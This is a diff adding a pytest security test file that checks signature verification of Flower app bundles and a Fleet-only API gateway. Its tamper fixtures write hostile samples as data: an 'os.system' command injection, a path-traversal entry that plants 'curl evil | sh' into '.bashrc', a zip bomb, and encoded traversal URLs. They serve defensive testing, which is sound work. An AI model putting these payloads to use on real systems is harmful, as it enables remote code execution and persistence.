@@ -1,0 +1,129 @@
+"""Operator-signed apps and the Fleet-only gateway, without processes (the deployment test runs
+them for real): only the operator's untouched app passes the device's check, the check runs before
+Flower installs anything, and the gateway forwards the Fleet API and nothing else."""
+import io
+import zipfile
+from pathlib import Path
+
+import pytest
+from flwr.cli.build import build_fab_from_disk
+
+from common.appsign import AppSignatureError, load_public_keys, make_signing_key, sign_app, verify_fab
+from common.cli import main as cli
+
+pytestmark = pytest.mark.security
+ATTACK_APP = Path(__file__).parent / "attack_app"
+
+
+@pytest.fixture(scope="module")
+def signed(tmp_path_factory):
+    d = tmp_path_factory.mktemp("sign")
+    op = make_signing_key(d / "keys", "operator")
+    other = make_signing_key(d / "keys", "mallory")
+    sign_app(ATTACK_APP, op["private"], d / "app")  # any Flower app will do
+    sign_app(ATTACK_APP, other["private"], d / "app-mallory")
+    return {"trusted": load_public_keys(op["public"]), "fab": build_fab_from_disk(d / "app"),
+            "mallory_fab": build_fab_from_disk(d / "app-mallory"), "dir": d}
+
+
+def _edit(fab: bytes, name: str, data: bytes, replace: bool = True) -> bytes:
+    src, out = zipfile.ZipFile(io.BytesIO(fab)), io.BytesIO()
+    with zipfile.ZipFile(out, "w") as z:
+        for info in src.infolist():
+            if not (replace and info.filename == name):
+                z.writestr(info, src.read(info))
+        z.writestr(name, data)
+    return out.getvalue()
+
+
+def test_the_operators_signed_app_verifies(signed):
+    assert verify_fab(signed["fab"], signed["trusted"]).startswith("fp-")
+
+
+@pytest.mark.parametrize("attack,kind", [
+    ("unsigned", "unsigned"), ("changed-file", "bad-signature"), ("added-file", "bad-signature"),
+    ("other-key", "untrusted-key"), ("garbage-signature", "bad-signature-file"), ("not-a-zip", "not-a-fab"),
+    ("path-traversal", "bad-path"),
+])
+def test_tampered_or_foreign_apps_are_refused(signed, attack, kind):
+    fab = signed["fab"]
+    bad = {
+        "unsigned": lambda: build_fab_from_disk(ATTACK_APP),
+        "changed-file": lambda: _edit(fab, "attack.py", b"import os; os.system('id')\n"),
+        "added-file": lambda: _edit(fab, "sitecustomize.py", b"print('hi')\n", replace=False),
+        "other-key": lambda: signed["mallory_fab"],
+        "garbage-signature": lambda: _edit(fab, "fineprune-signature.json", b"{not json"),
+        "not-a-zip": lambda: b"PK\x03\x04 not really",
+        "path-traversal": lambda: _edit(fab, "../../.bashrc", b"curl evil | sh\n", replace=False),
+    }[attack]()
+    with pytest.raises(AppSignatureError) as e:
+        verify_fab(bad, signed["trusted"])
+    assert e.value.kind == kind
+
+
+def test_an_inflation_bomb_is_refused_before_inflating(signed):
+    bomb = _edit(signed["fab"], "big.json", b"0" * (65 << 20), replace=False)
+    with pytest.raises(AppSignatureError) as e:
+        verify_fab(bomb, signed["trusted"])
+    assert e.value.kind == "too-large"
+
+
+def test_the_device_installs_nothing_from_an_unsigned_app(signed):
+    from client.guard import guarded_install
+
+    installed = []
+    install = guarded_install(lambda fab, **kw: installed.append(fab), signed["trusted"])
+    with pytest.raises(AppSignatureError):
+        install(build_fab_from_disk(ATTACK_APP), skip_prompt=True)
+    assert installed == []
+    install(signed["fab"], skip_prompt=True)
+    assert installed == [signed["fab"]]
+
+
+def test_guarded_executor_refuses_to_start_without_valid_trusted_keys(tmp_path, capsys):
+    from client.guard import superexec_main
+
+    (tmp_path / "keys.pub").write_text("ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ== x\n")
+    for argv in (["--trusted-keys", str(tmp_path / "none.pub")], ["--trusted-keys", str(tmp_path / "keys.pub")]):
+        with pytest.raises(SystemExit) as e:
+            superexec_main([*argv, "--insecure", "--runtime-api-address", "127.0.0.1:1"])
+        assert e.value.code == 2
+    assert "does not exist" in capsys.readouterr().err
+
+
+@pytest.mark.badinput
+def test_sign_app_bad_input_is_one_line_and_exit_2(signed, tmp_path, capsys):
+    key = signed["dir"] / "keys" / "operator"
+    assert cli(["sign-app", "--key", str(key), "--app", str(tmp_path), "--out", str(tmp_path / "o")]) == 2
+    assert cli(["sign-app", "--key", str(tmp_path / "nokey"), "--app", str(ATTACK_APP),
+                "--out", str(tmp_path / "o")]) == 2
+    assert cli(["sign-app", "--key", str(key), "--app", str(ATTACK_APP), "--out", str(ATTACK_APP.parent)]) == 2
+    err = capsys.readouterr().err.strip().splitlines()
+    assert len(err) == 3 and all(line.startswith("fineprune: error:") for line in err)
+    assert not (tmp_path / "o").exists() and (ATTACK_APP / "attack.py").exists()
+
+
+@pytest.mark.parametrize("method,path,ok", [
+    ("POST", "/v1/fleet/pull-messages", True), ("POST", "/v1/fleet/register-node", True),
+    ("POST", "/v1/control/start-run", False), ("POST", "/v1/control/register-node", False),
+    ("POST", "/v1/runtime/pull-task-input", False), ("GET", "/v1/fleet/pull-messages", False),
+    ("POST", "/v1/fleet/../control/start-run", False), ("POST", "/v1/fleet/%2e%2e/control/start-run", False),
+    ("POST", "/v1/fleet//control", False),
+])
+def test_gateway_lets_through_the_fleet_api_only(method, path, ok):
+    from server.gateway import allowed
+
+    assert allowed(method, path) is ok
+
+
+def test_gateway_answers_403_without_forwarding():
+    from starlette.testclient import TestClient
+
+    from server.gateway import make_app
+
+    app = make_app("127.0.0.1:9", None)  # nothing listens there: a forwarded request would fail
+    with TestClient(app) as c:
+        r = c.post("/v1/control/start-run", content=b"x")
+        assert r.status_code == 403
+        assert c.post("/v1/control/list-runs").status_code == 403
+    assert app.state.counts == {"forwarded": 0, "refused": 2}
